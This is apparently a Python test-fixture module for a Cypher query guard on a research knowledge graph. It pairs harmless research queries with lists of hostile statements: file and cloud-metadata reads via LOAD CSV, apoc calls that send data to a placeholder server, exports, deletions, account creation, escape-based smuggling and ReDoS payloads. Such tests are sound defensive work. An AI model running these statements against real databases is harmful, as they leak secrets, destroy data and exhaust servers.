"""Lists untrusted statements for the tests of the guard and of both engines.

`{file}` is replaced with a file that contains a secret, `{out}` with a file that must not be written, and `{url}` with
a server that must not be contacted."""

from typing import Literal, NamedTuple

from xkg.store.cypher.tokens import LONGEST_STATEMENT

GRAPH = [
    "CREATE (:Paper {id: 'p1', title: 'Direct preference', authors: ['A', 'B'], year: 2023, origin: 'built', "
    "cost_usd: 0.5})",
    "CREATE (:Paper {id: 'p2', title: 'Proximal policy', authors: ['C'], year: 2017, origin: 'built', cost_usd: 0.25})",
    "CREATE (:Paper {id: 'p3', title: 'A stub', year: 2015, state: 'stub', cost_usd: 0.0})",
    "CREATE (:Technique {id: 't1', name: 'DPO', aliases: ['direct preference optimization'], kind: 'method', "
    "definition: 'A loss on pairs.', depth: 0, weight: 0.75})",
    "CREATE (:Technique {id: 't2', name: 'Reward', kind: 'component', definition: 'Said implicitly.', depth: 1})",
    "CREATE (:Technique {id: 't3', name: 'Log ratio', kind: 'component', definition: 'Of two policies.', depth: 2})",
    "CREATE (:Technique {id: 't4', name: 'PPO', kind: 'method', definition: 'Clips the ratio.', depth: 0})",
    "CREATE (:Technique {id: 't5', name: 'reward', kind: 'component', definition: 'Given.', depth: 1})",
    "CREATE (:Code {id: 'c1', implementation: 'import torch', language: 'python', packages: ['torch'], "
    "level: 'tested', test: 'assert True'})",
    "CREATE (:Code {id: 'c2', implementation: 'x = 1', language: 'python', packages: ['numpy', 'torch'], "
    "level: 'parsed'})",
    "CREATE (:Symbol {id: 's1', kind: 'function', path: 'a/loss.py', qualified_name: 'loss', start_line: 3})",
    "CREATE (:Repository {id: 'r1', url: 'https://example.org/r', is_official: true})",
    "CREATE (:Finding {id: 'f1', name: 'It works', description: 'DPO is stable'})",
    "MATCH (a:Paper {id: 'p1'}), (b:Technique {id: 't1'}) CREATE (a)-[:PROPOSES {`order`: 0}]->(b)",
    "MATCH (a:Paper {id: 'p2'}), (b:Technique {id: 't4'}) CREATE (a)-[:PROPOSES {`order`: 0}]->(b)",
    "MATCH (a:Technique {id: 't1'}), (b:Technique {id: 't2'}) CREATE (a)-[:HAS_COMPONENT {`order`: 0}]->(b)",
    "MATCH (a:Technique {id: 't2'}), (b:Technique {id: 't3'}) CREATE (a)-[:HAS_COMPONENT {`order`: 0}]->(b)",
    "MATCH (a:Technique {id: 't4'}), (b:Technique {id: 't5'}) CREATE (a)-[:HAS_COMPONENT {`order`: 0}]->(b)",
    "MATCH (a:Technique {id: 't2'}), (b:Technique {id: 't5'}) "
    "CREATE (a)-[:SAME_CONCEPT {score: 0.9, how: 'name'}]->(b)",
    "MATCH (a:Technique {id: 't2'}), (b:Code {id: 'c1'}) CREATE (a)-[:IMPLEMENTED_BY]->(b)",
    "MATCH (a:Technique {id: 't5'}), (b:Code {id: 'c2'}) CREATE (a)-[:IMPLEMENTED_BY]->(b)",
    "MATCH (a:Technique {id: 't2'}), (b:Symbol {id: 's1'}) CREATE (a)-[:LOCATED_AT {score: 1.5, rank: 1}]->(b)",
    "MATCH (a:Repository {id: 'r1'}), (b:Symbol {id: 's1'}) CREATE (a)-[:DEFINES]->(b)",
    "MATCH (a:Paper {id: 'p1'}), (b:Repository {id: 'r1'}) CREATE (a)-[:HAS_REPOSITORY]->(b)",
    "MATCH (a:Paper {id: 'p1'}), (b:Paper {id: 'p2'}) CREATE (a)-[:CITES]->(b)",
    "MATCH (a:Paper {id: 'p1'}), (b:Paper {id: 'p3'}) CREATE (a)-[:CITES]->(b)",
    "MATCH (a:Paper {id: 'p1'}), (b:Finding {id: 'f1'}) CREATE (a)-[:REPORTS]->(b)",
]
"""Creates a small graph. Both engines accept these statements."""

RESEARCH = [
    "MATCH (p:Paper) RETURN p.id AS id, p.title AS title, p.year AS year ORDER BY year DESC, id",
    "MATCH (p:Paper {id: $id})-[r:PROPOSES]->(t:Technique) RETURN t.name AS name, r.`order` AS place",
    "MATCH (p:Paper)-[:PROPOSES]->(t)-[:HAS_COMPONENT*1..5]->(c) RETURN p.id AS id, c.name AS name ORDER BY id, name",
    "MATCH (t:Technique)-[:HAS_COMPONENT*..4]->(c:Technique {id: 't3'}) RETURN t.id AS id ORDER BY id",
    "MATCH path = (:Technique {id: 't1'})-[:HAS_COMPONENT*1..3]->(c) "
    "RETURN length(path) AS n, c.id AS id ORDER BY n, id",
    "MATCH (t:Technique)-[:IMPLEMENTED_BY]->(c:Code) RETURN c.level AS level, count(*) AS n ORDER BY level",
    "MATCH (c:Code) UNWIND c.packages AS package RETURN package, count(*) AS n ORDER BY n DESC, package",
    "MATCH (t:Technique) WHERE toLower(t.name) CONTAINS 'reward' RETURN t.id AS id ORDER BY id",
    "MATCH (t:Technique) WHERE t.name =~ $pattern RETURN t.id AS id ORDER BY id",
    "MATCH (t:Technique) WHERE t.definition CONTAINS 'ratio' OR t.definition ENDS WITH 'policies.' RETURN t.id AS id "
    "ORDER BY id",
    "MATCH (a:Technique)-[s:SAME_CONCEPT]-(b:Technique) RETURN a.id AS one, b.id AS two, s.score AS score "
    "ORDER BY one, two",
    "MATCH (p:Paper)-[:PROPOSES]->()-[:HAS_COMPONENT*0..5]->(t)-[:SAME_CONCEPT]-(u)<-[:HAS_COMPONENT*0..5]-()"
    "<-[:PROPOSES]-(q:Paper) WHERE p.id < q.id RETURN p.id AS a, q.id AS b, t.name AS name",
    "MATCH (p:Paper) OPTIONAL MATCH (p)-[:CITES]->(q:Paper) RETURN p.id AS id, count(q) AS n ORDER BY id",
    "MATCH (p:Paper) WHERE EXISTS { MATCH (p)-[:PROPOSES]->(:Technique) } RETURN p.id AS id ORDER BY id",
    "MATCH (p:Paper) WHERE NOT (p)-[:PROPOSES]->(:Technique) RETURN p.id AS id",
    "MATCH (p:Paper) RETURN p.id AS id, COUNT { MATCH (p)-[:CITES]->(:Paper) } AS n ORDER BY id",
    "MATCH (t:Technique)-[l:LOCATED_AT]->(s:Symbol)<-[:DEFINES]-(r:Repository) "
    "RETURN t.name AS name, s.path AS path, s.start_line AS line, r.url AS url, l.rank AS rank",
    "MATCH (p:Paper)-[:REPORTS]->(f:Finding) WHERE f.description CONTAINS 'DPO' RETURN p.title AS a, f.name AS b",
    "MATCH (p:Paper) RETURN sum(p.cost_usd) AS total, avg(p.year) AS year, min(p.year) AS first, max(p.year) AS last",
    "MATCH (t:Technique) WITH t.kind AS kind, count(*) AS n WHERE n > 1 RETURN kind, n ORDER BY kind",
    "MATCH (t:Technique) RETURN t.id AS id, CASE WHEN t.depth = 0 THEN 'top' ELSE 'part' END AS place ORDER BY id",
    "UNWIND $ids AS id MATCH (t:Technique {id: id}) RETURN t.name AS name ORDER BY name",
    "MATCH (p:Paper) RETURN p.id AS id UNION ALL MATCH (t:Technique) WHERE t.depth = 0 RETURN t.id AS id",
    "MATCH (p:Paper) RETURN collect(p.id) AS ids, size(collect(p.year)) AS n",
    "MATCH (n) RETURN count(*) AS n",
    "MATCH (p:Paper)-[r:PROPOSES|REPORTS]->(x) RETURN x.id AS id ORDER BY id",
    "MATCH (t:Technique) WHERE t.name = 'CREATE; DROP' OR t.name = \"it's\" RETURN count(t) AS n",
    "RETURN $text AS text, [1, 2.5, null] AS list, {a: 1, b: ['x']} AS map, true AS yes, 7 / 2 AS n, 2 ^ 3 AS cube",
    "RETURN date('2020-01-02') AS day, range(1, 3) AS numbers, 1.0 / 0.0 AS much, 2 + 3 * 4 AS n",
    "MATCH (p:Paper) // the newest, please; not DELETE\nRETURN /* one */ p.id AS id "
    "ORDER BY p.year DESC, p.id LIMIT 1;",
]
"""Statements that a researcher might write. With `PARAMETERS`, these statements return the same rows on both
engines."""

PARAMETERS = {"id": "p1", "ids": ["t1", "t4"], "pattern": "(?i)(dpo|ppo)", "text": "Größe '\u2028' `;"}

DIALECTS = [
    "MATCH (p:Paper) RETURN p {.id, .title, load: 1, n: COUNT { MATCH (p)-->() }, "
    "ids: COLLECT { MATCH (x) RETURN x.id }}",
    "MATCH (p:Paper) WHERE EXISTS { (p)-[:CITES]->() } RETURN p.id",
    "MATCH p = SHORTEST 1 (a:Paper)-[:CITES]->{1,5}(b:Paper) RETURN p",
    "MATCH ((a:Technique)-[:HAS_COMPONENT]->(b) WHERE a.depth = 0){1,4} RETURN a",
    "MATCH p = shortestPath((a:Paper {id: $a})-[*..10]-(b:Paper {id: $b})) RETURN p",
    "MATCH p = (a:Technique)-[e:HAS_COMPONENT* SHORTEST 1..5]->(b) RETURN length(e)",
    "MATCH p = (a)-[e:CITES* WSHORTEST(score) 1..5]-(b) RETURN p",
    "MATCH p = (a)-[e:CITES*TRAIL 1..5 (r, n | WHERE r.score * 2 > 1)]-(b) RETURN p",
    "MATCH (n:Paper&!Stub) WHERE n:(Paper|Code) RETURN n.id",
    "MATCH (a:Paper {id: 'p1'}), (b:Paper {id: 'p3'}) RETURN length(shortestPath((a)-[:CITES*..5]->(b))) + 1 AS n",
    "MATCH (r:Repository) WITH r.commit AS commit, count(*) AS n RETURN commit, n ORDER BY commit",
    "CALL db.relationshipTypes() YIELD relationshipType AS type RETURN type",
    "MATCH (n IS Paper) WHERE n.year IS :: INTEGER RETURN n.id",
    "MATCH (a) RETURN [(a)-[:CITES]->(b) | b.id] AS cited",
    "MATCH (t:Technique) RETURN (t.depth + 1) * (t.weight + 2) + (3) AS x, -t.depth + +1 AS y, [t.depth * 2] AS z",
    "MATCH (a)-[r:SAME_CONCEPT WHERE r.score * 2 > 1]->(b) RETURN a",
    "RETURN reduce(total = 0, x IN [1, 2] | total + x * 2) AS total, point.distance($a, $b) AS d",
    "RETURN duration.between(date('2020-01-01'), date()).days AS days, vector.similarity.cosine([1.0], [1.0]) AS c",
    "CALL db.schema.visualization() YIELD nodes, relationships RETURN nodes, relationships",
    "MATCH (t:Technique) WHERE t.definition =~ '(?is).*reward.*model.*' RETURN t.name",
]
"""Statements that only one engine supports. The guard accepts them for both engines."""

HONEST = [
    "MATCH (p:Paper {id: $id})-[r:PROPOSES]->(t) RETURN r.order, t.name ORDER BY r.order",
    "MATCH (p:Paper) WHERE p.title = 'a; DROP TABLE Paper' RETURN p.id",
    'MATCH (p:Paper) WHERE p.title STARTS WITH "LOAD FROM" OR p.title ENDS WITH "COPY" RETURN p.id',
    r"MATCH (p:Paper) WHERE p.title = 'it\'s; SET' RETURN p.id",
    "MATCH (p:Paper) RETURN p.`create`, p.`set` AS `delete`",
    "MATCH (n {load: 1, create: 'x', set: [1, 2]}) RETURN n.id",
    "MATCH (n:Load)-[:USE|DELETE]->(m:`Drop`) RETURN n.id, m.id",
    "MATCH (n) /* DELETE n; COPY */ RETURN n.id",
    "/** CALL apoc.load.json('x') */ MATCH (n) RETURN n.id",
    "MATCH (a:Paper) RETURN a.id, COUNT { MATCH (a)-[:PROPOSES]->(t) WHERE t.depth = 1 } AS n",
    "CALL show_tables() RETURN *",
    "CALL db.labels() YIELD label RETURN label ORDER BY label",
    "MATCH (t:Technique) WHERE t.name =~ '(?i).*create.*' RETURN t.id",
    "RETURN 1.5e-3 + .5 - 2 AS x, [1, 2, 3][0:1] AS head",
    "MATCH\u00a0(n)\u2003RETURN\tn.id",
    "MATCH (n) WHERE n.name = 'Größe \u2014 日本 \\u00e9' RETURN n.id AS größe",
    "RETURN 'C:\\\\temp' AS path",
    "UNWIND range(1, 1000000000) AS x RETURN x",
    "UNWIND range(1, 1000000) AS x UNWIND range(1, 1000000) AS y RETURN sum(x * y)",
    "MATCH (t:Technique) WITH collect(t.name) AS names RETURN [i IN range(0, size(names) - 1) | names[i]]",
    "MATCH (t) WITH collect(t) AS ts RETURN [x IN ts WHERE any(a IN x.aliases WHERE toLower(a) = 'dpo') | x.name]",
    "MATCH (p:Paper) WITH collect(p.year) AS ys RETURN reduce(m = 0, y IN ys | CASE WHEN y > m THEN y ELSE m END)",
    "RETURN [x IN range(1, 100) | x * x], reduce(s = 0, x IN range(1, 1000000) | s + x)",
    "MATCH p = (a)-[:CITES*1..3]->(b) RETURN [n IN nodes(p) WHERE n.title =~ '(?i).*rl.*' | n.title]",
    "MATCH (c:Code) UNWIND split(c.implementation, '\\n') AS line WITH line WHERE line CONTAINS 'def' RETURN line",
    "MATCH (p:Paper) RETURN p {.id, .title, names: [(p)-[:PROPOSES]->(t) | t {.id, .name}]}",
    "MATCH (a:Paper) WHERE NOT a.title =~ '(?i)(the|a) .*' AND a.year > 2010 RETURN a",
    "WITH [1, 2, 3] AS xs, ['a', 'b'] AS ys RETURN [x IN xs | [y IN ys | y + toString(x)]]",
    "MATCH (a) WHERE " + " OR ".join(f"a.id = 'p{n}'" for n in range(300)) + " RETURN a",
    "MATCH (a) WHERE (a:Paper OR a:Code) AND (a:Technique OR NOT a:Symbol) RETURN a",
]
"""Names that look like clauses, and clauses in strings and comments."""

FILES = [
    "LOAD FROM '{file}' RETURN *",
    "load from '{file}' (header=false) return *",
    "LOAD WITH HEADERS (a STRING) FROM '{file}' RETURN a",
    "MATCH (p:Paper) LOAD FROM '{file}' RETURN *",
    "LOAD/**/FROM '{file}' RETURN *",
    "LOAD\u2003FROM '{file}' RETURN *",
    "// a comment\nLOAD FROM '{file}' RETURN *",
    "LOAD FROM ['{file}'] RETURN *",
    "LOAD FROM glob('{file}') RETURN *",
    "UNWIND [1] AS x LOAD FROM '{file}' RETURN *",
]
WRITES = [
    "COPY (MATCH (p:Paper) RETURN p.id) TO '{out}.csv'",
    "CoPy (RETURN 1 AS a) TO '{out}.csv'",
    "COPY (MATCH (p:Paper) RETURN p.id) TO '{out}.parquet'",
    "EXPORT DATABASE '{out}'",
    "RETURN 1; COPY (RETURN 1 AS a) TO '{out}.csv'",
    "MATCH (p:Paper) RETURN p.id; EXPORT DATABASE '{out}'",
    "MATCH (p:Paper) RETURN p.id;; COPY (RETURN 1 AS a) TO '{out}.csv'",
    "RETURN ';' ; COPY (RETURN 1 AS a) TO '{out}.csv'",
    "RETURN 1 /* ; **/ ' */; COPY (RETURN 1 AS a) TO '{out}.csv' //'",
]
LADYBUG = [
    "CREATE (p:Paper {id: 'x'})",
    "cReAtE (p:Paper {id: 'x'})",
    "CREATE/**/(p:Paper {id: 'x'})",
    "MATCH (p:Paper) SET p.title = 'x'",
    "MATCH (p:Paper) DELETE p",
    "MATCH (p:Paper) DETACH DELETE p",
    "MERGE (p:Paper {id: 'y'}) ON CREATE SET p.title = 'y'",
    "MATCH (p:Paper) WITH p CREATE (:Paper {id: 'z'})",
    "UNWIND [1] AS as MERGE (:Paper {id: 'z'})",
    "DROP TABLE Paper",
    "ALTER TABLE Paper ADD x STRING",
    "CREATE NODE TABLE Evil (id STRING PRIMARY KEY)",
    "CREATE MACRO evil(x) AS x + 1",
    "COPY Paper FROM 'x.csv'",
    "ATTACH 'x' AS y (DBTYPE lbug)",
    "USE y",
    "INSTALL httpfs",
    "LOAD EXTENSION httpfs",
    "LOAD httpfs",
    "ANALYZE",
    "CALL threads=64",
    "CALL timeout=0",
    "CALL `threads` = 64",
    "CALL project_graph('g', ['Paper'], [])",
    "CALL current_setting('s3_secret_access_key') RETURN *",
    "CALL read_csv_serial('x') RETURN *",
    "CALL show_tables() RETURN * UNION CALL bm_info() RETURN *",
    "BEGIN TRANSACTION",
    "CHECKPOINT",
    "EXPLAIN MATCH (p) RETURN p",
    "RETURN nextval('s')",
    "RETURN `nextval`('s')",
    "RETURN error('x')",
    "MATCH (p:Paper) HINT p RETURN p",
]
NEO4J = [
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'http://169.254.169.254/' AS line RETURN line",
    "CALL apoc.load.json('http://x') YIELD value RETURN value",
    "CALL apoc . load . json('http://x') YIELD value RETURN value",
    "CALL `apoc`.`load`.`json`('http://x') YIELD value RETURN value",
    "CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value",
    "RETURN apoc.load.json('http://x')",
    "RETURN `apoc.load.json`('http://x')",
    "RETURN apoc.util.sleep(100000)",
    "EXPLAIN CALL apoc.load.json('http://x') YIELD value RETURN value",
    "CALL { CREATE (n) RETURN n } RETURN n",
    "CALL { MATCH (n) RETURN n } RETURN n",
    "MATCH (n) CALL (n) { SET n.x = 1 } RETURN n",
    "CALL { LOAD CSV FROM 'x' AS l RETURN l } IN TRANSACTIONS RETURN l",
    "MATCH (n) FOREACH (x IN [1] | SET n.x = x)",
    "MATCH (n) REMOVE n.x",
    "INSERT (n:A)",
    "CALL dbms.listConfig() YIELD name RETURN name",
    "CALL gds.graph.project('g', '*', '*')",
    "SHOW USERS",
    "TERMINATE TRANSACTION 'x'",
    "USING PERIODIC COMMIT LOAD CSV FROM 'x' AS l CREATE (n)",
    "USE system MATCH (n) RETURN n",
    "USE graph.byName('neo4j') LOAD CSV FROM '{url}' AS line RETURN line",
    "CYPHER 25 WHEN true THEN { CREATE (n) } ELSE RETURN 1",
    "CYPHER 25 LET x = 1 RETURN x",
    "WHEN true THEN CREATE (n)",
    "LET x = 1 RETURN x",
    "MATCH (n) FILTER n.x = 1 RETURN n",
    "MATCH (n) FINISH",
    "CALL dbms.components() YIELD name RETURN name",
    "RETURN 1 AS x UNION FINISH",
    "RETURN 1 AS x NEXT CREATE (n)",
    "RETURN genai.vector.encode('text', 'OpenAI', {token: 'x'}) AS v",
    "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
    "CALL db.labels() YIELD label CALL apoc.load.json('{url}') YIELD value RETURN value",
    "RETURN n.SET$x SET n.x = 1",
    "CREATE USER x SET PASSWORD 'y'",
    "START DATABASE x",
    "MATCH (n) RETURN '\\u0027 SET n.x = 1 //'",
    "MATCH (n) RETURN '\\\\u0027 SET n.x = 1 //'",
    "MATCH (n) WITH n // \\u000a DELETE n\nRETURN n",
    "MATCH (n) WITH n /* \\u002a\\u002f DELETE n */ RETURN n",
    "MATCH (n) RETURN n.`\\u0060 SET n.x = 1 //`",
    "\\u0043REATE (n)",
    "MATCH (n) WHERE n.x = 1dDELETE n",
    "MATCH (n) \u017fET n.x = 1",
    "MATCH (n) \uff33\uff25\uff34 n.x = 1",
    "MATCH (n) DETACH\u2028DELETE n",
    "MATCH (n) EXISTS { CREATE (m) }",
    "MATCH (n) WHERE EXISTS { MATCH (n) SET n.x = 1 } RETURN n",
    "MATCH (n) RETURN COLLECT { CREATE (m) RETURN m }",
]
MALFORMED = [
    "",
    " \n ;",
    ";",
    "/* only */",
    "MATCH (n) RETURN 'open",
    'MATCH (n) RETURN "open',
    "MATCH (n) RETURN `open",
    "MATCH (n) RETURN n /* open",
    "MATCH (n) RETURN n /*/",
    "MATCH (n RETURN n",
    "MATCH (n)) RETURN n",
    "MATCH (n] RETURN n",
    "MATCH (n) RETURN n\0; DROP TABLE Paper",
    "MATCH (n) RETURN '\0'",
    "MATCH (n) RETURN '\ud800'",
    "MATCH (n)\u200bRETURN n",
    "\ufeffMATCH (n) RETURN n",
    "MATCH (n) NUKE n",
    "MATCH (n) NUKE.x n",
    "MATCH (n) RETURN * NUKE n",
    "MATCH (n) RETURN n ORDER BY n.id DESC NUKE n",
    "MATCH (n) RETURN $",
    "RETURN " + "(" * 500 + "1" + ")" * 500,
    "RETURN '" + "x" * LONGEST_STATEMENT + "'",
]


class Harm(NamedTuple):
    """A Neo4j statement, and its effect without the guard. Statements that need no write access run in a READ
    session."""

    statement: str
    does: Literal["sends", "reads", "writes a file", "changes the graph", "changes accounts", "tells"]


HARM = [
    Harm("LOAD CSV FROM '{url}' AS line RETURN line", "sends"),
    Harm("LOAD CSV FROM 'file://{file}' AS line RETURN line", "reads"),
    Harm("RETURN COLLECT { LOAD CSV FROM 'file://{file}' AS line RETURN line } AS x", "reads"),
    Harm("RETURN EXISTS { LOAD CSV FROM '{url}' AS line RETURN line } AS x", "sends"),
    Harm("CYPHER runtime=slotted LOAD CSV FROM '{url}' AS line RETURN line", "sends"),
    Harm("USE neo4j LOAD CSV FROM '{url}' AS line RETURN line", "sends"),
    Harm("MATCH (n) RETURN n.id AS n // \\u000aUNION LOAD CSV FROM '{url}' AS n RETURN n", "sends"),
    Harm("WITH '\\u0027 AS x LOAD CSV FROM \"{url}\" AS line RETURN line // '", "sends"),
    Harm("MATCH (n) WITH n \\u004cOAD CSV FROM '{url}' AS line RETURN line", "sends"),
    Harm("MATCH (n) WITH n /* \\u002a/ LOAD CSV FROM '{url}' AS line RETURN line // */", "sends"),
    Harm("CALL apoc.load.json('{url}') YIELD value RETURN value", "sends"),
    Harm("CALL apoc.load.json('file://{file}') YIELD value RETURN value", "reads"),
    Harm("CALL apoc . load /* */ . json('{url}') YIELD value RETURN value", "sends"),
    Harm("RETURN COLLECT { CALL apoc.load.json('{url}') YIELD value RETURN value } AS x", "sends"),
    Harm("CALL apoc.cypher.run('CALL apoc.load.json(\"{url}\")', {}) YIELD value RETURN value", "sends"),
    Harm("CALL apoc.graph.fromCypher('LOAD CSV FROM \"{url}\" AS l RETURN l', {}, 'g', {})", "sends"),
    Harm("RETURN apoc.cypher.runFirstColumnMany('LOAD CSV FROM \"file://{file}\" AS l RETURN l', {}) AS x", "reads"),
    Harm("CALL apoc.export.csv.query('RETURN 1 AS a', '{out}', {})", "writes a file"),
    Harm("CALL apoc.export.cypher.all('{out}', {})", "writes a file"),
    Harm("CREATE (:Evil)", "changes the graph"),
    Harm("CREATE (:$('Evil'))", "changes the graph"),
    Harm("MERGE (n:Evil) ON CREATE SET n.x = 1 ON MATCH SET n.x = 2", "changes the graph"),
    Harm("MATCH (n:Paper) SET n.title = 'x'", "changes the graph"),
    Harm("MATCH (n:Paper) SET n:Evil", "changes the graph"),
    Harm("MATCH (n:Paper) REMOVE n.title", "changes the graph"),
    Harm("MATCH (n:Paper) DETACH DELETE n", "changes the graph"),
    Harm("MATCH ()-[r]->() DELETE r", "changes the graph"),
    Harm("MATCH (n:Paper) WITH n // \\u000aREMOVE n.title", "changes the graph"),
    Harm("MATCH (n:Paper) FOREACH (x IN [1] | SET n.title = 'x')", "changes the graph"),
    Harm("MATCH (n:Paper) CALL (n) { SET n.title = 'x' } RETURN n", "changes the graph"),
    Harm("MATCH (n:Paper) CALL { CREATE (:Evil) } RETURN n", "changes the graph"),
    Harm("CALL apoc.cypher.doIt('CREATE (:Evil)', {})", "changes the graph"),
    Harm("CALL apoc.create.node(['Evil'], {})", "changes the graph"),
    Harm("CALL apoc.refactor.rename.label('Paper', 'Evil')", "changes the graph"),
    Harm("CREATE USER evil SET PASSWORD 'evilevil'", "changes accounts"),
    Harm("CALL dbms.listConfig() YIELD name, value RETURN name, value", "tells"),
    Harm("SHOW TRANSACTIONS", "tells"),
    Harm("SHOW USERS", "tells"),
]

SLOW = [
    "RETURN 'aaaa' =~ '(a+)+b'",
    "RETURN 'aaaa' =~ \"(a+)+\\\\1b\"",
    "RETURN 'aaaa' =~ '(a|aa)+b'",
    "RETURN 'aaaa' =~ '((a{1,20}){1,20}){1,20}b'",
    "RETURN 'aaaa' =~ '(.*a){20}b'",
    "RETURN 'aaaa' =~ '.*a.*a.*b'",
    "RETURN 'aaaa' =~ '(?s).*a.*a(?-s).*'",
    "RETURN 'aaaa' =~ '" + "a?" * 40 + "a" * 40 + "b'",
    "RETURN 'aaaa' =~ '\\\\Q[\\\\E(a+)+b'",
    "RETURN 'aaaa' =~ '(?x)#[\\n(a+)+b'",
    "RETURN 'aaaa' =~ '(a' + '+)+b'",
    "RETURN 'aaaa' =~ replace('(ax)xb', 'x', '+')",
    "MATCH (n) RETURN 'aaaa' =~ n.title",
    "WITH '(a+)+b' AS p RETURN 'aaaa' =~ p",
    "RETURN CASE 'aaaa' WHEN =~ '(a+)+b' THEN 1 END",
    "RETURN 'aaaa' =~ '\\u0028a+)+b'",
]
"""Regular expressions that keep a backtracking engine busy for hours, or that cannot be judged before they run."""

ENDLESS = [
    "RETURN single(x IN range(1, 9000000000000000) WHERE x < 0)",
    "RETURN reduce(s = 0, x IN range(1, 9000000000000000000) | s + x % 7)",
    "RETURN size([x IN range(1, 9000000000000) WHERE x % 2 = 3])",
    "RETURN [a IN range(1, 3000) | [b IN range(1, 3000) | size([c IN range(1, 3000) WHERE a * b * c < 0])]]",
    "WITH reduce(s = 'aaaaaaaaaaaaaaaa', x IN range(1, 16) | s + s) AS t RETURN t =~ 'a*a*b'",
    "WITH reduce(l = [], x IN range(1, 60) | [l, l]) AS t RETURN t",
    "WITH reduce(m = {}, x IN range(1, 60) | {a: m, b: m}) AS t RETURN t",
    "WITH [1, 2] AS s " + "WITH s + s AS s " * 45 + "RETURN size([x IN s WHERE x = 3])",
]
"""Expressions that Neo4j evaluates for hours without checking the time limit."""

UNPLANNED = [
    "RETURN " + "NOT " * 800 + "true",
    "WITH 1 AS a WHERE " + " XOR ".join(f"a = {n}" for n in range(25)) + " RETURN a",
    "MATCH (a) WHERE " + "NOT (a.x = 0 OR " * 40 + "a.x = 1" + ")" * 40 + " RETURN a",
    "MATCH (a) WHERE " + "EXISTS { (a)-->(b) WHERE " * 20 + "a.x = 1" + "}" * 20 + " RETURN a",
    "RETURN " + "CASE WHEN true THEN " * 300 + "1" + " ELSE 2 END" * 300,
    "MATCH (a:" + "&".join(f"(A{n}|B{n})" for n in range(60)) + ") RETURN count(a)",
    "MATCH (a) WHERE " + " AND ".join(f"(a:A{n} OR a:B{n})" for n in range(20)) + " RETURN a",
]
"""Statements that Neo4j plans for hours without checking the time limit."""

LARGE = [
    "RETURN size(reduce(s = 'a', x IN range(1, 40) | s + s))",
    "RETURN " + "replace(" * 6 + "'aaaaaaaaaa'" + ", 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaa')" * 6,
    "RETURN size(reduce(s = 'a', x IN range(1, 9) | replace(s, 'a', 'aaaaaaaaaa')))",
    "RETURN any(x IN range(1, 10000) WHERE all(y IN range(1, 10000) WHERE x <> y))",
    "MATCH (n) RETURN [x IN range(1, n.year * 1000000) WHERE x < 0]",
    "RETURN [x IN range(1, 10000000) WHERE " + " + ".join(["x"] * 500) + " < 0]",
    "WITH reduce(s = 'a', x IN range(1, 20) | s + s) AS b RETURN [x IN range(1, 1000000) WHERE toLower(b) = 'y']",
    "RETURN " + "reduce(a = 1, x IN [1, 2] | " * 18 + "1" + ")" * 18,
    "WITH 'aaaaaaaaaaaaaaaaaaaaaaaa' AS s MATCH (n) WHERE s =~ '.*a.*b' RETURN n",
    "WITH {s: 'aaa'} AS m MATCH (n) WHERE m.s =~ '.*a.*b' RETURN n",
    "MATCH (n) WHERE toLower(n.title) =~ '.*a.*b' RETURN n",
    "MATCH (n) WHERE any(x IN [n.title + n.id] WHERE x =~ '.*a') RETURN n",
    "MATCH (n) WHERE n.title =~ '(?=a)a' RETURN n",
    "MATCH (n) WHERE n.title =~ 'a++b' RETURN n",
]
"""Nested lists, growing values, and values that must not be matched with a regular expression."""

ATTACKS = [
    *FILES,
    *WRITES,
    *LADYBUG,
    *NEO4J,
    *MALFORMED,
    *SLOW,
    *ENDLESS,
    *UNPLANNED,
    *LARGE,
    *(harm.statement for harm in HARM),
]


def filled(statement: str, *, file: object, out: object, url: str) -> str:
    return statement.replace("{file}", str(file)).replace("{out}", str(out)).replace("{url}", url)
